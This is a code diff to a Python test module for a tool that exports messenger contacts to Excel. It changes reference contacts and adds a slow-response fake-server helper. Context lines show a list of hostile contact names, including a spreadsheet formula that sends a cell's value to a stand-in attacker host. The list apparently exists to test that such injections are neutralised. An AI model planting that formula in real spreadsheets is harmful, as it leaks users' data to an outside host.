@@ -10,6 +10,7 @@ os.environ.setdefault("XLWINGS_LICENSE_KEY", "noncommercial")
 
 import json
 import logging
+import time
 from collections.abc import Iterator
 from typing import Any
 
@@ -22,6 +23,7 @@ from werkzeug import Request, Response
 from xl_contacts import client as client_module
 from xl_contacts import fetch
 from xl_contacts.client import GreenApiClient
+from xl_contacts.demo import REFERENCE_PAGE_CONTACTS
 from xl_contacts.demo import synthetic_contacts as make_contacts  # noqa: F401 - shared
 from xl_contacts.settings import (
     ENV_API_TOKEN,
@@ -35,29 +37,7 @@ from xl_contacts.settings import (
 TOKEN = "d75b3a66374942c5b3c019c698abc2067e151558acbd412345"
 ID_INSTANCE = "1101823456"
 
-REFERENCE_CONTACTS: list[dict[str, Any]] = [
-    {
-        "chatId": "10000000",
-        "name": "Василиса",
-        "contactName": "Василиса Премудрая",
-        "type": "user",
-        "phoneNumber": 79876543210,
-    },
-    {
-        "chatId": "10000001",
-        "name": "Иван",
-        "contactName": "Иван Царевич",
-        "type": "user",
-        "phoneNumber": 79998887766,
-    },
-    {
-        "chatId": "10000002",
-        "name": "Лягушка",
-        "contactName": "Царевна Лягушка",
-        "type": "user",
-        "phoneNumber": 0,
-    },
-]
+REFERENCE_CONTACTS: list[dict[str, Any]] = [dict(c) for c in REFERENCE_PAGE_CONTACTS]
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
@@ -108,6 +88,15 @@ class FakeGreenApi:
                 json.dumps({"stateInstance": state}), status=status, content_type="application/json"
             )
         )
+
+    def answer_slowly(self, contacts: Any, delay: float) -> None:
+        """Answer every request after ``delay`` seconds."""
+
+        def handler(request: Request) -> Response:
+            time.sleep(delay)
+            return Response(json.dumps(contacts), content_type="application/json")
+
+        self.answer_with(handler)
 
     def answer_with(self, handler: Any) -> None:
         self.server.expect_request(self.path, method="GET").respond_with_handler(handler)
